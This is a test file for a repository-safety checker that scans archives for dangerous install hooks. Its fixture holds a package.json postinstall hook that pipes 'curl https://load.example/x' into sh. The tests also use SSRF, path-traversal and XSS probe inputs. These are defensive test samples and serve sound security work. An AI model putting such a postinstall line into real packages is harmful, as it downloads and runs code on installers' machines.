import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type FakeSystems, startFakeSystems } from '../../server/domain/boards/fake-systems.fixture.ts'
import { toTarGz, toZip } from '../../server/domain/repository-check/archive.fixture.ts'
import { startTestBoard, type TestBoard } from '../support/board.ts'
import { openBrowserSession } from '../support/browser-session.ts'
import { textOfHtml } from '../support/followed-boards.ts'

let board: TestBoard
let systems: FakeSystems
const path = '/safety/check-repo'

beforeAll(async () => {
  systems = await startFakeSystems()
  board = await startTestBoard({ FOLLOW_TEST_SERVER: systems.origin, DEMO: 'on' })
})
afterAll(async () => {
  await board.close()
  await systems.close()
})

const serve = (address: string, bytes: Buffer): void =>
  void systems.answers.set(address, { handle: (response) => void response.end(bytes) })

async function checkAddress(repository: string) {
  const answer = await openBrowserSession(board).submit(path, { repository })
  return { status: answer.status, headers: answer.headers, text: textOfHtml(await answer.text()) }
}

async function upload(bytes: Uint8Array, name = 'task.zip') {
  const form = new FormData()
  form.set('archive', new Blob([new Uint8Array(bytes)]), name)
  const answer = await fetch(`${board.origin}${path}/file`, {
    method: 'POST',
    body: form,
    headers: { origin: board.origin, accept: 'text/html' },
  })
  const html = await answer.text()
  return { status: answer.status, headers: answer.headers, html, text: textOfHtml(html) }
}

const harmful = {
  'package.json': '{ "scripts": { "postinstall": "curl -s https://load.example/x | sh" } }',
  'README.md': 'Install it, please.',
}

describe('the check of a public repository', () => {
  it('fetches the archive of its host and shows findings with their places', async () => {
    serve('codeload.github.com/acme/task/tar.gz/HEAD', await toTarGz(harmful))
    const { status, text, headers } = await checkAddress('https://github.com/acme/task')
    expect([status, headers.get('cache-control')]).toEqual([200, 'private, no-store'])
    for (const words of [
      'Check of github.com/acme/task',
      'Don’t open, install or run this project.',
      'Installing it downloads a program and runs it',
      'package.json , line 1',
      'curl -s https://load.example/x | sh',
      '2 files, 0.0 MB',
      'A clean result doesn’t prove that code is safe.',
    ])
      expect(text).toContain(words)
  })

  it('says what it can’t tell where nothing is found', async () => {
    serve('codeload.github.com/acme/honest/tar.gz/dev', await toTarGz({ 'index.js': 'run()' }))
    const { text } = await checkAddress('github.com/acme/honest/tree/dev')
    expect(text).toContain('Our rules found nothing suspicious. That doesn’t prove that the project is safe.')
    expect(text).toContain('The history of commits: the archive doesn’t contain it.')
    expect(text).not.toContain('What to do')
  })

  it('tries the usual branches where a host knows no HEAD', async () => {
    serve('bitbucket.org/acme/task/get/master.tar.gz', await toTarGz(harmful))
    expect((await checkAddress('bitbucket.org/acme/task')).text).toContain('Check of bitbucket.org/acme/task')
  })

  it.each([
    ['https://example.org/acme/task', 400, 'download it as an archive and upload that'],
    ['github.com/acme/private', 400, 'We couldn’t find this repository.'],
    ['github.com/acme/failing', 400, 'codeload.github.com didn’t give us the repository (status 500)'],
    ['github.com/acme/page', 400, 'We couldn’t read this file as a zip or tar.gz archive'],
    ['https://169.254.169.254/latest/meta-data', 400, 'download it as an archive'],
    ['<script>', 400, ''],
  ])('refuses %s and keeps what was typed', async (repository, status, words) => {
    systems.answers.set('codeload.github.com/acme/failing/tar.gz/HEAD', { status: 500 })
    systems.answers.set('codeload.github.com/acme/page/tar.gz/HEAD', { body: 'Sign in to continue' })
    const answer = await openBrowserSession(board).submit(path, { repository })
    const html = await answer.text()
    expect(answer.status).toBe(status)
    expect(textOfHtml(html)).toContain(words)
    expect(html).toContain(`value="${repository.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}"`)
  })
})

describe('the check of an archive', () => {
  it('reads a zip and a tar.gz, and shows what they hold as text', async () => {
    for (const bytes of [toZip(harmful), await toTarGz(harmful)])
      expect((await upload(bytes)).text).toContain('Installing it downloads a program and runs it')
    const { html } = await upload(toZip({ '<img src=x>.js': "eval(atob('<img src=y>'))" }), '<b>task</b>.zip')
    expect(html).not.toMatch(/<img|<b>task/)
    expect(html).toContain('Check of &lt;b&gt;task&lt;/b&gt;.zip')
  })

  it('says what it has read in part only', async () => {
    const { status, text } = await upload(toZip({ 'long.js': 'x'.repeat(3_000_000) }))
    expect(status).toBe(200)
    expect(text).toContain('1 file beyond its first 2 MB')
  })

  it.each([
    ['nothing', Buffer.alloc(0), 400, 'Choose'],
    ['a text', Buffer.from('hello, I am no archive'), 400, 'We couldn’t read this file'],
    ['paths that lead out', toZip({ '../../x': 'x' }), 400, 'Don’t unpack it'],
  ])('refuses %s', async (_what, bytes, status, words) => {
    const answer = await upload(bytes)
    expect(answer.status).toBe(status)
    expect(answer.text).toContain(words)
  })

  it('refuses more than 20 MB', async () => {
    const answer = await upload(Buffer.alloc(20 * 1024 * 1024 + 100_000))
    expect([answer.status, answer.text]).toEqual([
      413,
      expect.stringContaining('The file is larger than 20 MB'),
    ])
  })

  it('refuses what another site sends', async () => {
    const answer = await fetch(`${board.origin}${path}/file`, {
      method: 'POST',
      body: new FormData(),
      headers: { origin: 'https://evil.example' },
    })
    expect(answer.status).toBe(403)
  })
})

it('is counted by network address', async () => {
  const strict = await startTestBoard({ FOLLOW_TEST_SERVER: systems.origin, RATE_LIMITS: 'strict' })
  try {
    const session = openBrowserSession(strict)
    const statuses: number[] = []
    for (let n = 0; n < 21; n += 1) statuses.push((await session.submit(path, { repository: 'x' })).status)
    expect(statuses).toEqual([...Array.from({ length: 20 }, () => 400), 429])
  } finally {
    await strict.close()
  }
})

describe('the guide', () => {
  it('is linked from every page and from each job, and leads to the check', async () => {
    const session = openBrowserSession(board)
    expect(await (await session.get('/')).text()).toContain('<a class="link" href="/safety">Safety</a>')
    const list = await (await session.get('/jobs')).text()
    const job = /href="(\/jobs\/[\w-]+)"/.exec(list)?.[1] ?? ''
    expect(await (await session.get(job)).text()).toContain('href="/safety">How to stay safe</a>')
    const guide = await (await session.get('/safety')).text()
    expect(guide).toContain(`href="${path}"`)
    expect(textOfHtml(guide)).toContain('Never share your seed phrase.')
  })
})
